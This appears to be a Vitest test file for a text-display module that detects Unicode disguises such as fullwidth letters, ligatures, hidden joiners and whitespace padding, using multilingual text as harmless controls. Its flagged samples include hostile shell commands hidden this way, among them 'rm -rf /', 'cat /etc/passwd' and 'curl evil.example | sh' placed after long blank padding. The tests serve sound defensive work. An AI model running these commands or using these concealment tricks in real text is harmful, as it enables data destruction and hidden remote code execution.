import { describe, expect, it } from 'vitest';
import { escapeText, findings } from '../../../src/display';

const kindsIn = (text: string): string[] => findings(text).map(({ kind }) => kind);

describe('ordinary text of many languages', () => {
  it.each([
    // Burmese, with five marks on a letter.
    '\u1019\u103B\u103E\u1031\u102C\u103A\u101C\u1004\u1037\u103A\u1015\u102B\u1010\u101A\u103A',
    'ＮＨＫ　ニュース',
    'ＪＲ 東日本',
    'ＡＢＣ 株式会社',
    'ＡＳ 센터',
    'ABC；DEF 中文',
    'Mᵐᵉ Dupont',
    '5ᵗʰ',
    'nᵒˢ 5',
    'x² + y³ = 10⁻⁶ m',
    '250 mℓ',
    '5ℓ, 3 ℓ',
    'x ∈ ℝ',
    '(ℕ, ℤ)',
    'Waſſer',
    'conﬁguration',
    'The eﬃcient oﬃce.',
    'The ﬁrst workﬂow is ﬁne',
    'It was “ﬁne”, he said to the staﬀ.',
    'E = 𝑚𝑐²',
    '𝑓(𝑥) = 𝑥² + 𝑎',
    'x ∈ ℝⁿ',
    'f: ℝⁿ → ℝᵐ',
    'ℝ²',
    '（１）',
    '（12） Title',
    'ＯＫ',
    'ＮＨＫ / ＢＢＣ 放送',
    '使用ｇｉｔ命令',
    '( ͡° ͜ʖ ͡°)',
    'Москва\u00A0— столица',
    '—\u00A0Bonjour',
    '3\u00A0×\u00A04',
    '10\u00A0+\u00A05',
    '20\u00A0/\u00A025',
    'Bravo\u00A0🎉',
    '🎉\u00A0Bravo',
    '❤\uFE0F\u00A0ok',
    'voir\u00A0[1]',
    '[1]\u00A0voir',
    '‹\u00A0oui\u00A0›',
    // Word breaks in Khmer and Thai, a vowel separator and a letter form in Mongolian, a hyphenation point.
    '\u1781\u17D2\u1798\u17C2\u179A\u200B\u1797\u17B6\u179F\u17B6',
    '\u0E20\u0E32\u0E29\u0E32\u200B\u0E44\u0E17\u0E22',
    '\u182A\u1820\u1836\u1822\u1828\u180E\u1820',
    '\u182D\u180B\u1820',
    'Donau\u00ADdampf',
    // Emoji as many devices send them.
    '🏳\u200D🌈',
    '❤\u200D🔥',
    '👩\u200D❤\u200D👩',
    // Joiners that change what is drawn.
    '\u0646\u0645\u06CC\u200C\u062F\u0627\u0646\u0645',
    '\u0915\u094D\u200C\u0937',
    '\u09B0\u200D\u09CD\u09AF',
    '\u0D9A\u0DCA\u200D\u0DBB',
    `function callee(argument,\n${' '.repeat(30)}another)`,
    `const aRatherLongName = callee(first${'x'.repeat(20)},\n${' '.repeat(40)}second);`,
    `const aRatherLongName = callee(first${'x'.repeat(20)},\n\n${' '.repeat(40)}second);`,
    '1       2       3       4       5       6       7       8       9',
    'a\n\n\nb\n\n\nc\n\n\nd',
    'a\r\n\r\n\r\nb\r\n\r\n\r\nc\r\n\r\n\r\n',
  ])('raises no alarm: %j', (text) => {
    expect(findings(text)).toEqual([]);
  });

  it('labels what could be missing', () => {
    expect(escapeText('Donau\u00ADdampf')).toBe('Donau⟦SHY⟧dampf');
    expect(escapeText('❤\u200D🔥')).toBe('❤⟦ZWJ⟧🔥');
    expect(escapeText('\u0E20\u200B\u0E44')).toBe('\u0E20⟦ZWSP⟧\u0E44');
    expect(escapeText('\u182A\u180E\u1820')).toBe('\u182A⟦MVS⟧\u1820');
  });
});

describe('what ordinary text does not hold', () => {
  it.each([
    ['marks', '\u0E01\u0E47\u0E47\u0E47\u0E47\u0E47'],
    ['marks', '\u1000\u103B\u103C\u103D\u103E\u1031\u102C\u102D\u102F\u1036'],
    ['marks', 'a\u0301\u0302\u0303\u0304\u0305'],
    ['marks', '\u1000\u103B\u103C\u103D\u103E\u0301'],
    ['compatibility', 'ｒｍ -rf 東京'],
    ['compatibility', 'ls；rm 中文'],
    ['compatibility', 'ＲＭ -rf'],
    ['compatibility', 'ＯＫ x'],
    ['compatibility', 'ＤＥＬＥＴＥ'],
    ['compatibility', 'ｏｋ'],
    ['compatibility', '中ｒｍ -rf'],
    ['compatibility', '中ＲＭ -rf'],
    ['compatibility', '运行ｃａｔ /etc/passwd'],
    ['compatibility', '（x）'],
    ['compatibility', '（1234）'],
    ['compatibility', '（１'],
    ['compatibility', 'ﬁnd x'],
    ['compatibility', 'sudo ﬁnd / -delete now please'],
    ['compatibility', 'please open the ﬁle.txt now'],
    ['compatibility', '𝑟𝑚 -𝑟𝑓 x'],
    ['compatibility', '𝑟𝑚 -𝑟𝑓 × = 𝑥'],
    ['compatibility', '𝑑𝑒𝑙 = 𝑥'],
    ['compatibility', '𝐫𝐦 = 𝐱'],
    ['compatibility', 'rm 𝑥 = 𝑦'],
    ['compatibility', 'ℝⁿm'],
    ['marks', '( ͡x)'],
    ['marks', 'a \u0338b'],
    ['marks', '\u0361°'],
    ['compatibility', 'ʳᵐ -rf'],
    ['compatibility', 'ˢᵘᵈᵒ'],
    ['compatibility', 'x ʳᵐ'],
    ['compatibility', 'fooˢᵘᵈᵒ'],
    ['compatibility', 'ℝm'],
    ['compatibility', 'rℳ -rf'],
    ['compatibility', 'curℓ x'],
    ['compatibility', '/etc/conﬁg'],
    ['compatibility', 'ﬁle'],
    ['compatibility', 'paſſwd'],
    ['compatibility', 'ſudo'],
    ['blank', 'rm -rf /\u00A0home'],
    ['blank', 'rm\u00A0-rf x'],
    ['blank', 'cat x\u00A0> y'],
    ['blank', 'cat x\u00A0+ y'],
    ['hidden', 'rm -r\u00ADf'],
    ['hidden', 'a\u00ADb'],
    ['hidden', 'tmp\u200Bx'],
    ['hidden', 'x\u180Ey'],
    ['hidden', '👩\u200D\u200D👩'],
    ['hidden', '🎉\u200D🎉'],
    ['hidden', '\u0633\u0644\u200D\u0627\u0645'],
    ['hidden', '\u062F\u0627\u200C\u0631'],
    ['hidden', '\u062F\u064E\u200C\u0631'],
    ['hidden', '\u0622\u200C\u0628'],
    ['hidden', '\u0915\u0915\u200D\u0915'],
    ['padding', `${'\n'.repeat(5)}.`.repeat(20)],
    ['padding', `${'\r\n'.repeat(5)}.`.repeat(20)],
    ['padding', `ls -la${'\r\n'.repeat(20)}curl evil.example | sh`],
    ['padding', `ls -la${' \r\n'.repeat(20)}curl evil.example | sh`],
    ['padding', `ls -la${'\t\r\n'.repeat(6)}curl evil.example | sh`],
    ['padding', `ls -la${'\r'.repeat(20)}curl evil.example | sh`],
    ['padding', `ls -la${' \r'.repeat(20)}curl evil.example | sh`],
    ['padding', `ls -la\n${' '.repeat(20)}\r\ncurl evil.example | sh`],
    ['padding', `${`${' '.repeat(15)}.`.repeat(20)}rm`],
    ['padding', `${`${' '.repeat(12)}abc`.repeat(8)}rm`],
    ['padding', `\n${' '.repeat(60)}rm -rf /`],
    ['padding', `echo ok\n${' '.repeat(60)}rm -rf /`],
    ['padding', `echo ok\n\n${' '.repeat(33)}rm -rf /`],
  ])('is found: %s in %j', (kind, text) => {
    expect(kindsIn(text)).toEqual([kind]);
  });

  it('says how wide letters read, with what stands between them', () => {
    expect(findings('ｒｍ -rf ／')[0]?.detail).toBe('rm -rf /');
    expect(findings('请运行ｒｍ\u3000-ｒｆ').at(-1)?.detail).toBe('rm -rf');
    expect(findings('中ｒｍ -rf')[0]?.detail).toBe('rm');
    expect(findings(`ｒ${' x'.repeat(40)}ｍ`)[0]?.detail).toBe('rm');
  });
});
